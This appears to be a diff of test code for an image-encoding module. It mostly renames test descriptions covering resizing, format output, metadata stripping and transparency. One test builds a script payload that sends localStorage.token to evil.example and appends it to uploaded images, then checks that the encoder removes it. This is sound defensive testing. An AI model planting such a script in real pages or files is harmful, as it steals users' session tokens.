@@ -25,7 +25,7 @@ async function colorAt(bytes: Uint8Array, left: number, top: number): Promise<st
   return isNear(RED) ? 'red' : isNear(BLUE) ? 'blue' : `${r},${g},${b}`;
 }
 
-describe('widths', () => {
+describe('the widths of a stored picture', () => {
   test.each([
     { own: [200, 100], size: [200, 100], widths: [200] },
     { own: [320, 400], size: [320, 400], widths: [320] },
@@ -34,19 +34,16 @@ describe('widths', () => {
     { own: [1200, 3000], size: [960, 2400], widths: [320, 640, 800, 960] },
     { own: [3000, 2], size: [1920, 1], widths: [320, 640, 800, 1200, 1920] },
     { own: [1, 5000], size: [1, 2400], widths: [1] },
-  ])(
-    'a picture of $own is stored as $widths, never wider or higher than kept',
-    async ({ own, size, widths }) => {
-      const [width = 0, height = 0] = own;
-      const encoded = await encodeImage(await plainPicture(width, height).png().toBuffer());
-      expect([encoded.width, encoded.height]).toEqual(size);
-      expect(encoded.widths).toEqual(widths);
-      const made = await Promise.all(encoded.files.map((file) => sharp(file.bytes).metadata()));
-      expect(made.map((file) => file.width)).toEqual(widths.flatMap((each) => [each, each]));
-    },
-  );
+  ])('from $own are $widths, within the size limits', async ({ own, size, widths }) => {
+    const [width = 0, height = 0] = own;
+    const encoded = await encodeImage(await plainPicture(width, height).png().toBuffer());
+    expect([encoded.width, encoded.height]).toEqual(size);
+    expect(encoded.widths).toEqual(widths);
+    const made = await Promise.all(encoded.files.map((file) => sharp(file.bytes).metadata()));
+    expect(made.map((file) => file.width)).toEqual(widths.flatMap((each) => [each, each]));
+  });
 
-  test('each width exists as AVIF and as WebP', async () => {
+  test('exist in AVIF and in WebP', async () => {
     const encoded = await encodeImage(await plainPicture(700, 400).jpeg().toBuffer());
     for (const { format, bytes } of encoded.files) {
       const { format: container, compression } = await sharp(bytes).metadata();
@@ -57,8 +54,8 @@ describe('widths', () => {
   });
 });
 
-describe('what is kept of a picture', () => {
-  test('it is turned as its EXIF says, and EXIF, GPS, XMP and colour profile are gone', async () => {
+describe('a stored picture', () => {
+  test('is turned as its EXIF says, and has no EXIF, GPS, XMP or colour profile', async () => {
     const upload = await twoHalves(400, 200)
       .jpeg()
       .withMetadata({ orientation: 6 })
@@ -80,7 +77,7 @@ describe('what is kept of a picture', () => {
     expect(await colorAt(fileOf(encoded, 200, 'webp'), 20, 200)).toBe('blue');
   });
 
-  test('of an animated GIF it is the first frame', async () => {
+  test('is the first frame of an animated GIF', async () => {
     const frames = await Promise.all(
       [plainPicture(64, 64), plainPicture(64, 64, BLUE)].map((frame) => frame.png().toBuffer()),
     );
@@ -94,20 +91,23 @@ describe('what is kept of a picture', () => {
     expect(await colorAt(stored, 32, 32)).toBe('red');
   });
 
-  test.each(['jpeg', 'png', 'gif', 'webp'] as const)('bytes appended to a %s are gone', async (format) => {
-    const payload = Buffer.from(
-      '<script>location="https://evil.example/?"+localStorage.token</script>'.repeat(3),
-    );
-    const upload = Buffer.concat([await twoHalves(320, 320).toFormat(format).toBuffer(), payload]);
-    const { files } = await encodeImage(upload);
-    for (const { bytes } of files) {
-      for (let at = 0; at + 16 <= payload.length; at += 1) {
-        expect(Buffer.from(bytes).includes(payload.subarray(at, at + 16))).toBe(false);
+  test.each(['jpeg', 'png', 'gif', 'webp'] as const)(
+    'has no bytes that were appended to a %s',
+    async (format) => {
+      const payload = Buffer.from(
+        '<script>location="https://evil.example/?"+localStorage.token</script>'.repeat(3),
+      );
+      const upload = Buffer.concat([await twoHalves(320, 320).toFormat(format).toBuffer(), payload]);
+      const { files } = await encodeImage(upload);
+      for (const { bytes } of files) {
+        for (let at = 0; at + 16 <= payload.length; at += 1) {
+          expect(Buffer.from(bytes).includes(payload.subarray(at, at + 16))).toBe(false);
+        }
       }
-    }
-  });
+    },
+  );
 
-  test('transparency', async () => {
+  test('keeps its transparency', async () => {
     const clear = { ...RED, alpha: 0.5 };
     const upload = await sharp({ create: { width: 32, height: 32, channels: 4, background: clear } })
       .png()
@@ -121,13 +121,13 @@ describe('what is kept of a picture', () => {
     ['16-bit', (image: Sharp) => image.toColourspace('rgb16').png()],
     ['CMYK', (image: Sharp) => image.toColourspace('cmyk').jpeg()],
     ['palette', (image: Sharp) => image.png({ palette: true })],
-  ])('a %s picture becomes sRGB with 8 bits', async (_name, convert) => {
+  ])('becomes sRGB with 8 bits from a %s picture', async (_name, convert) => {
     const encoded = await encodeImage(await convert(twoHalves(64, 64)).toBuffer());
     const { space, depth } = await sharp(fileOf(encoded, 64, 'webp')).metadata();
     expect([space, depth]).toEqual(['srgb', 'uchar']);
   });
 
-  test('the placeholder is a WebP address of under 400 characters, also with transparency', async () => {
+  test('has a WebP placeholder of under 400 characters, also with transparency', async () => {
     const noise = { type: 'gaussian', mean: 128, sigma: 60 } as const;
     const picture = sharp({ create: { width: 300, height: 400, channels: 3, background: RED, noise } });
     const mask = await sharp({ create: { width: 300, height: 400, channels: 3, background: RED, noise } })
